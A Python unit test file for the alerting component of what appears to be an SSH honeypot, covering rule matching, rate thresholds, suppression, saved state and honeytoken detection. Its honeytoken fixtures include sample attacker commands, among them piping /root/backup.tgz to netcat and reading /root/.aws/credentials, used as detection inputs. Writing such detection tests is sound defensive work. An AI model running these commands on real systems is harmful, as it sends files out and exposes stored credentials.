"""Which events make an alert: the same events the same alerts, whenever it is asked."""

from typing import Any

import msgspec
import pytest

from hermes.config.outputs import AlertConfig, AlertRule, Honeytoken
from hermes.outputs import alerts
from hermes.outputs.alerts import Alerts
from hermes.outputs.sink import Record
from tests.unit.outputs.world import record


def rule(**more: Any) -> AlertRule:
    return AlertRule(**{"name": "r", "output": "o", "events": ("auth.attempt",), **more})


def token(**more: Any) -> Honeytoken:
    return Honeytoken(**{"name": "t", "output": "o", **more})


def whence(it: Record) -> str | None:
    return it.body.get("source_ip") or "192.0.2.7"


def raised(alarm: AlertConfig, *seen: Record) -> list[int]:
    """Ids of the records that make an alert."""
    them = Alerts([alarm], whence)
    return [it.id for one in seen for it in them.take(one)]


def tries(*moments: float, **body: Any) -> list[Record]:
    return [record(number, "auth.attempt", at, **body) for number, at in enumerate(moments, 1)]


def test_an_alert_says_what_it_is_about() -> None:
    cause = record(7, "auth.attempt", username="root", accepted=True)
    (alert,) = Alerts([rule(severity="high")], whence).take(cause)
    about = {"connection_id": "c", "session_id": None, "source_ip": "192.0.2.7", "cause": cause.flat()}
    assert alert.body == {
        "event": "alert.raised", "alert": "r", "severity": "high", "reason": "auth.attempt", "by": "source_ip",
        "key": "192.0.2.7", "count": 1, "within": 60.0, "suppressed": 0, **about,
    }  # fmt: skip
    assert (alert.id, alert.time, alert.sensor, alert.event) == (7, cause.time, "s1", "alert.raised")
    assert alert.event_id == "j:7:r"
    assert alert.body["cause"]["username"] == "root"


@pytest.mark.parametrize(
    ("where", "body", "matches"),
    [
        ({"username": ("root", "adm*")}, {"username": "admin"}, True),
        ({"username": ("root", "adm*")}, {"username": "Admin"}, False),
        ({"username": ("*",)}, {}, False),
        ({"accepted": ("true",)}, {"accepted": True}, True),
        ({"accepted": ("true",)}, {"accepted": False}, False),
        ({"port": ("22",)}, {"port": 22}, True),
        ({"responses": ("se?ret",)}, {"responses": ["a", "secret"]}, True),
        ({"source_ip": ("192.0.2.*",)}, {}, True),
        ({"sensor": ("s2",)}, {}, False),
        ({"username": ("root",), "accepted": ("true",)}, {"username": "root", "accepted": False}, False),
    ],
)
def test_fields_must_match(where: dict[str, tuple[str, ...]], body: dict[str, Any], matches: bool) -> None:
    assert raised(rule(where=where), record(1, "auth.attempt", **body)) == ([1] if matches else [])


def test_only_the_events_meant_are_looked_at() -> None:
    alarm = rule(events=("auth.*", "session.opened"))
    assert raised(alarm, record(1), record(2, "session.opened"), record(3, "session.closed")) == [2]


def test_so_many_within_so_long_by_key() -> None:
    alarm = rule(count=3, within=10, suppress=0)
    assert raised(alarm, *tries(0, 1, 2)) == [3]
    assert raised(alarm, *tries(0, 6, 12, 15)) == [4]
    assert raised(alarm, *tries(0, 1, 2, 3, 4, 5)) == [3, 6]
    others = [record(it, "auth.attempt", it, source_ip=f"192.0.2.{it % 2}") for it in range(1, 7)]
    assert raised(alarm, *others) == [5, 6]
    assert raised(rule(count=3, within=10, by="sensor", suppress=0), *others) == [3, 6]


def test_further_alerts_are_suppressed_and_counted() -> None:
    them = Alerts([rule(suppress=100)], whence)
    found = [alert for it in tries(0, 1, 2, 101, 102) for alert in them.take(it)]
    assert [(it.id, it.body["suppressed"]) for it in found] == [(1, 0), (4, 2)]


def test_a_clock_that_goes_back_raises_no_storm() -> None:
    assert raised(rule(suppress=100), *tries(50, 10, 20, 49)) == [1]


def test_from_any_moment_on_with_what_was_remembered_all_goes_on_as_it_would() -> None:
    alarms = [rule(count=3, within=10, suppress=20), rule(name="each", suppress=7), token(passwords=("p",))]
    seen = [record(it, "auth.attempt", it * 1.5, source_ip=f"192.0.2.{it % 3}", password="p" * (it % 2)) for it in range(60)]
    whole = Alerts(alarms, whence)
    expected = [whole.take(it) for it in seen]
    assert sum(map(len, expected)) > 10
    for cut in range(0, 60, 7):
        before = Alerts(alarms, whence)
        for it in seen[:cut]:
            before.take(it)
        after = Alerts(alarms, whence)
        after.remember(msgspec.json.decode(msgspec.json.encode(before.memory())))
        assert [after.take(it) for it in seen[cut:]] == expected[cut:]


def test_what_is_remembered_is_no_longer_what_is_being_counted() -> None:
    them = Alerts([rule(count=3)], whence)
    them.take(record(1, "auth.attempt"))
    before = msgspec.json.encode(remembered := them.memory())
    them.take(record(2, "auth.attempt"))
    assert msgspec.json.encode(remembered) == before


def test_what_is_remembered_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(alerts, "KEYS", 5)
    them = Alerts([rule(count=1000, by="username")], whence)
    for number in range(100):
        them.take(record(number, "auth.attempt", username=f"{number}" * 1000))
    assert len(them.memory()["r"]) == 5
    assert max(map(len, them.memory()["r"])) == alerts.KEY_CHARACTERS


@pytest.mark.parametrize(
    ("what", "event", "body", "matches"),
    [
        ({"passwords": ("hunter2",)}, "auth.attempt", {"username": "x", "password": "hunter2"}, True),
        ({"passwords": ("hunter2",)}, "auth.attempt", {"username": "x", "responses": ["hunter2"]}, True),
        ({"passwords": ("hunter2",)}, "auth.attempt", {"username": "x", "password": "hunter"}, False),
        ({"usernames": ("svc",)}, "auth.attempt", {"username": "svc", "password": "a"}, True),
        ({"usernames": ("svc",), "passwords": ("p",)}, "auth.attempt", {"username": "svc", "password": "a"}, False),
        ({"usernames": ("svc",), "passwords": ("p",)}, "auth.attempt", {"username": "a", "password": "p"}, False),
        ({"usernames": ("svc",), "passwords": ("p",)}, "auth.attempt", {"username": "svc", "password": "p"}, True),
        ({"passwords": ("hunter2",)}, "forward.login", {"username": "x", "password": "hunter2"}, True),
        ({"keys": ("SHA256:x",)}, "auth.attempt", {"username": "a", "key_fingerprint": "SHA256:x"}, True),
        ({"keys": ("SHA256:x",)}, "auth.attempt", {"username": "a", "key_fingerprint": "SHA256:y"}, False),
        ({"paths": ("/root/backup.tgz",)}, "channel.started", {"command": "cat /root/backup.tgz|nc x 1"}, True),
        ({"paths": ("/root/.aws/*",)}, "channel.input", {"line": "cat '/root/.aws/credentials'"}, True),
        ({"paths": ("/root/.aws/*",)}, "process.started", {"program": "/bin/cat", "argv": ["cat", "/root/.aws/c"]}, True),
        ({"paths": ("/root/.aws/*",)}, "channel.input", {"line": "cat /root/other"}, False),
        ({"paths": ("/opt/x",)}, "file.executed", {"path": "/opt/x", "sha256": None}, True),
        ({"hashes": ("ab" * 32,)}, "artifact.stored", {"path": "/y", "sha256": "ab" * 32}, True),
        ({"hashes": ("ab" * 32,)}, "file.written", {"path": "/y", "sha256": "cd" * 32}, False),
        ({"texts": ("AKIA12345",)}, "channel.input", {"line": "aws --key AKIA12345 s3 ls"}, True),
        ({"texts": ("AKIA12345",)}, "process.started", {"program": "/bin/a", "argv": ["-k=AKIA12345"]}, True),
        ({"texts": ("AKIA12345",)}, "connection.version", {"version": "AKIA12345"}, False),
    ],
)  # fmt: skip
def test_honeytokens(what: dict[str, Any], event: str, body: dict[str, Any], matches: bool) -> None:
    assert raised(token(**what), record(1, event, **body)) == ([1] if matches else [])
